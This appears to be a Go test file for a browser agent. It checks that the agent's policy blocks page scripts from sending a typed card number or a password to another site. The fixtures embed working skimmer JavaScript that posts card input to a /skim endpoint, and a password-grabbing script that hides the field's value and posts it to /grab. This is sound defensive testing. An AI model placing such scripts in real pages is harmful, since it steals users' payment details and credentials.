package runner

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"vroom/agents"
	"vroom/app/internal/apptest"
	"vroom/internal/modeltest"
)

// skimShop is a checkout on the run's site whose search box asks another
// site's suggestion service (as real shops do) and whose card field a
// compromised script skims to a third: each server counts what it got.
type skimShop struct {
	URL string
	mu  sync.Mutex
	got map[string][]string // path -> bodies or queries received
}

func (s *skimShop) record(path, v string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.got[path] = append(s.got[path], v)
}

func (s *skimShop) received(path string) []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.got[path]...)
}

func newSkimShop(t *testing.T) *skimShop {
	s := &skimShop{got: map[string][]string{}}
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		s.record(r.URL.Path, r.URL.RawQuery+string(body))
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprint(w, "Dune")
	}))
	t.Cleanup(other.Close)
	away := strings.Replace(other.URL, "127.0.0.1", "localhost", 1)
	shop := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/pay" {
			body, _ := io.ReadAll(r.Body)
			s.record("/pay", string(body))
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>Checkout</title>
<p><input id="q" aria-label="Search books"></p><ul id="sug" role="listbox"></ul>
<p><input id="card" autocomplete="cc-number" aria-label="Card number"></p>
<button id="pay">Pay</button><p id="status"></p>
<script>
q.addEventListener('input', async () => {
  const r = await fetch('%[1]s/suggest?q=' + encodeURIComponent(q.value)).catch(() => null);
  sug.innerHTML = r ? '<li role="option">' + await r.text() + '</li>' : '';
});
// What a compromised third-party script adds to a checkout.
card.addEventListener('input', () => { fetch('%[1]s/skim', { method: 'POST', mode: 'no-cors', body: card.value }).catch(() => {}); });
pay.onclick = async () => { await fetch('/pay', { method: 'POST', body: card.value }); status.textContent = 'Paid'; };
</script>`, away)
	}))
	t.Cleanup(shop.Close)
	s.URL = shop.URL
	return s
}

// TestSkimmerRefused: a page's own script sending what the agent typed into
// a card field to another site is refused — headless, nobody could allow
// it — and the agent reads that in its action's result; the card still
// goes to the shop itself, and the search box's suggestions still come
// from the other site (plain typed text is not held back from a page's
// scripts). A careful model: search, type the card, pay, report.
func TestSkimmerRefused(t *testing.T) {
	t.Parallel()
	s := newSkimShop(t)
	// The person allowed paying up front (--allow-irreversible); nothing
	// lets the card leave the site.
	h := newHarness(t, func(c *agents.Config) { c.Policy.ConfirmLeaveOrigin, c.Policy.AllowIrreversible = true, true })
	h.srv.Script("planner", modeltest.PlannerScript(map[string]any{"task": "pay for Dune with card 4111111111111111", "url": s.URL + "/checkout"}))
	const card = "4111111111111111"
	var afterCard string
	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
		seen := r.Text()
		switch r.ToolResults() {
		case 0:
			return apptest.Call("type", "ref", modeltest.Ref(seen, "textbox", "Search books"), "text", "dune")
		case 1:
			return apptest.Call("type", "ref", modeltest.Ref(seen, "textbox", "Card number"), "text", card)
		case 2:
			afterCard = r.LastText()
			return apptest.Call("click", "ref", modeltest.Ref(seen, "button", "Pay"))
		}
		return apptest.Done("Paid for Dune; a script on the page tried to send the card elsewhere and was stopped.", true)
	}})
	if res := h.execute(t, "pay for Dune with card "+card); !res.Success {
		t.Fatalf("the run: %+v", res)
	}
	if got := s.received("/skim"); len(got) != 0 {
		t.Fatalf("the skimmer got %q", got)
	}
	if got := s.received("/pay"); len(got) != 1 || got[0] != card {
		t.Fatalf("the shop got %q", got)
	}
	if got := s.received("/suggest"); len(got) == 0 || !strings.Contains(got[len(got)-1], "q=dune") {
		t.Fatalf("the suggestion service got %q", got)
	}
	if !strings.Contains(afterCard, "meanwhile the page's script was refused") || !strings.Contains(afterCard, "a masked field's value") ||
		strings.Contains(afterCard, card) {
		t.Fatalf("what the model read after typing the card:\n%s", afterCard)
	}
	denied := 0
	for _, r := range apptest.RunLog(t, h.log) {
		if r.Event == agents.LogPolicyDenied && strings.Contains(r.Error, "a masked field's value") {
			denied++
		}
	}
	if denied == 0 {
		t.Fatal("no refusal in the run log")
	}
}

// TestHiddenPasswordRefused: a page whose script hides its password field's
// value from scripts (it redefines what value reads as) and sends the
// password elsewhere when the agent signs in is refused all the same: the
// masked value is read where the page's script cannot reach. The person
// filled the password (the field holds it when the agent comes); the
// agent only clicks. A careful model: sign in, then report what it read.
func TestHiddenPasswordRefused(t *testing.T) {
	t.Parallel()
	const password = "tr0ub4dor&3"
	s := &skimShop{got: map[string][]string{}}
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		s.record(r.URL.Path, r.URL.RawQuery+string(body))
	}))
	t.Cleanup(other.Close)
	away := strings.Replace(other.URL, "127.0.0.1", "localhost", 1)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>Sign in</title>
<p><input id="pw" type="password" aria-label="Password" value="%[2]s"></p>
<button id="go">Sign in</button><p id="status"></p>
<script>
const real = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
Object.defineProperty(HTMLInputElement.prototype, 'value', { get() { return this.type === 'password' ? '' : real.get.call(this); }, set(v) { real.set.call(this, v); } });
go.onclick = () => { fetch('%[1]s/grab', { method: 'POST', mode: 'no-cors', body: real.get.call(pw) }).catch(() => {}); status.textContent = 'Signed in'; };
</script>`, away, password)
	}))
	t.Cleanup(site.Close)
	h := newHarness(t, func(c *agents.Config) { c.Policy.ConfirmLeaveOrigin = true })
	h.srv.Script("planner", modeltest.PlannerScript(map[string]any{"task": "sign in", "url": site.URL + "/"}))
	var afterClick string
	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
		switch r.ToolResults() {
		case 0:
			return apptest.Call("click", "ref", modeltest.Ref(r.Text(), "button", "Sign in"))
		case 1:
			afterClick = r.LastText()
		}
		return apptest.Done("Signed in; the page's script tried to send the password elsewhere and was stopped.", true)
	}})
	if res := h.execute(t, "sign in"); !res.Success {
		t.Fatalf("the run: %+v", res)
	}
	if got := s.received("/grab"); len(got) != 0 {
		t.Fatalf("the page's script sent the password away: %q", got)
	}
	if !strings.Contains(afterClick, "meanwhile the page's script was refused") || !strings.Contains(afterClick, "a masked field's value") ||
		strings.Contains(afterClick, password) {
		t.Fatalf("what the model read after the click:\n%s", afterClick)
	}
}
